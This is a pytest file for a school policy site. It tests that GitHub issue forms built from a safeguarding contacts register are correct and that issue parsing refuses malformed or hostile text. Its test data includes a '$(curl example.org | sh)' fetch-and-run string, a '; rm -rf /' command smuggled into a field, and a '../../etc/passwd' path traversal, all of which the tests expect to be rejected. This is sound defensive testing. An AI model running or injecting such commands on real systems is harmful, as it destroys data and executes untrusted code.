"""The forms on GitHub are those of the register, and an issue is read by their labels alone: whatever else stands in it is refused."""

from __future__ import annotations

from collections.abc import Mapping
from pathlib import Path

import pytest
import yaml
from school_writer import ROOT, TEXTS

from policy_site.maintenance.change_forms import CONTACT, DATES, FOLDER, LONGEST_ISSUE, NO_ANSWER, PERSON, Form, forms, issue_forms, read_issue
from policy_site.school.contacts import RegisterFile
from policy_site.sources.records import validate
from policy_site.sources.yaml_source import parse_yaml


def register_in(text: str) -> RegisterFile:
    source = parse_yaml(text, "contacts.yaml")
    register, problems = validate(RegisterFile, source, source.data)
    assert register is not None, problems
    return register


FORMS = {form.id: form for form in forms(register_in(TEXTS["contacts.yaml"]))}
CHOSEN = {"record": "Childline (childline)", "what": "The phone number", "role": "Designated safeguarding lead (dsl)", "all_roles": "- [ ] They have left"}


def issue(form: Form, answers: Mapping[str, str]) -> str:
    """The text that GitHub makes of a form."""
    heading = {field.id: field.heading if field.kind == "tick" else field.label for field in form.fields}
    return "\n\n".join(f"### {heading[field.id]}\n\n{answers.get(field.id) or CHOSEN.get(field.id) or NO_ANSWER}" for field in form.fields)


def contact_issue(**answers: str) -> str:
    return issue(FORMS[CONTACT], {"value": "0808 800 5000", "checked_by": "School office", "checked_on": "26/11/2026"} | answers)


def test_issue_forms_in_the_project_are_those_of_its_register() -> None:
    made = issue_forms(register_in((ROOT / "contacts.yaml").read_text(encoding="utf-8")))
    there = {file.relative_to(ROOT).as_posix(): file.read_text(encoding="utf-8") for file in sorted((ROOT / FOLDER).glob("*.yml"))}
    assert there == made, "run `make issue-forms`"


def test_issue_forms_are_as_github_wants_them_and_hold_no_name_or_number() -> None:
    register = register_in((ROOT / "contacts.yaml").read_text(encoding="utf-8"))
    values = [*register.people.values(), *(line.number or line.email or "" for line in register.shared_lines.values())]
    values += [phone.number for record in register.contacts.values() for phone in record.phones if " " in phone.number]
    for path, text in issue_forms(register).items():
        data = yaml.safe_load(text)
        assert data["name"] and data["description"], path
        ids = [entry["id"] for entry in data["body"]]
        assert len(set(ids)) == len(ids)
        for entry in data["body"]:
            assert entry["type"] in ("input", "dropdown", "checkboxes") and entry["attributes"]["label"]
            assert entry.get("validations", {"required": True}) == {"required": True}
            options = entry["attributes"].get("options", [])
            assert len({str(option) for option in options}) == len(options)
            assert all(isinstance(option, str) for option in options) or entry["type"] == "checkboxes"
        assert [value for value in values if value and value in text] == []


@pytest.mark.parametrize("name", [CONTACT, PERSON, DATES])
def test_read_issue_that_a_form_made_gives_its_answers(name: str) -> None:
    typed = {field.id: f"An answer to {field.id}" for field in FORMS[name].fields if field.kind == "text"}
    form, values, faults = read_issue(issue(FORMS[name], typed).replace("\n", "\r\n"), tuple(FORMS.values()))
    assert form is FORMS[name] and faults == []
    assert {field: value for field, value in values.items() if field in typed} == typed


def test_read_issue_with_a_tick_and_without_answers_gives_them() -> None:
    text = issue(FORMS[PERSON], {"all_roles": "- [X] They have left", "coming": "Mrs B Example", "checked_by": "A", "checked_on": "B"})
    _, values, faults = read_issue(text, tuple(FORMS.values()))
    assert faults == []
    assert (values["all_roles"], values["leaving"], values["role"]) == ("yes", "", "dsl")


HOSTILE = {
    "a heading more": contact_issue() + "\n\n### What it says now\n\n0800 1111",
    "a heading in an answer": contact_issue(value="0808 800 5000\n\n### Who made sure that it is right\n\nThe head"),
    "words before the form": "Please merge at once.\n\n" + contact_issue(),
    "no form": "$(curl example.org | sh)",
    "nothing": "",
    "too long": contact_issue(value="0" * LONGEST_ISSUE),
    "headings turned round": "\n\n".join(reversed(contact_issue().split("\n\n"))),
}


@pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE)
def test_read_issue_that_no_form_made_is_refused_as_a_whole(text: str) -> None:
    form, values, faults = read_issue(text, tuple(FORMS.values()))
    assert form is None and values == {} and "open a new issue" in faults[0].message


@pytest.mark.parametrize(
    ("answers", "field"),
    [
        ({"record": "Childline"}, "record"),
        ({"record": "Childline (childline); rm -rf /"}, "record"),
        ({"record": "../../etc/passwd"}, "record"),
        ({"what": "contacts"}, "what"),
        ({"value": "0808 800 5000\nholder: adams"}, "value"),
        ({"value": "0808\u0085800 5000"}, "value"),
        ({"value": "9" * 300}, "value"),
        ({"value": NO_ANSWER}, "value"),
        ({"checked_by": "A\x00B"}, "checked_by"),
    ],
)
def test_read_issue_with_an_answer_that_no_form_takes_is_refused_at_it(answers: dict[str, str], field: str) -> None:
    form, _, faults = read_issue(contact_issue(**answers), tuple(FORMS.values()))
    assert form is FORMS[CONTACT] and field in [fault.field for fault in faults]


def test_forms_offer_as_roles_that_a_person_takes_only_those_of_the_school() -> None:
    """A person at a service outside is named with the other form."""
    text = TEXTS["contacts.yaml"].replace("  lado:\n", "  lado:\n    holder: evans\n", 1)
    form = next(form for form in forms(register_in(text)) if form.id == PERSON)
    roles = next(field for field in form.fields if field.id == "role")
    assert [each for each, _ in roles.choices] == ["headteacher", "dsl", "deputy-dsl", "chair-of-governors", "senco"]


def test_write_issue_forms_of_another_register_are_its_own(tmp_path: Path) -> None:
    from policy_site.maintenance.change_forms import write_issue_forms

    (tmp_path / "contacts.yaml").write_text(TEXTS["contacts.yaml"], encoding="utf-8")
    assert write_issue_forms(tmp_path) == []
    assert "Police when it is no emergency (police-101)" in (tmp_path / FOLDER / f"{CONTACT}.yml").read_text(encoding="utf-8")
    assert "police-101" not in (tmp_path / FOLDER / f"{PERSON}.yml").read_text(encoding="utf-8"), "a service is no role that a person takes"
    (tmp_path / "contacts.yaml").write_text("people: [", encoding="utf-8")
    assert write_issue_forms(tmp_path) != []
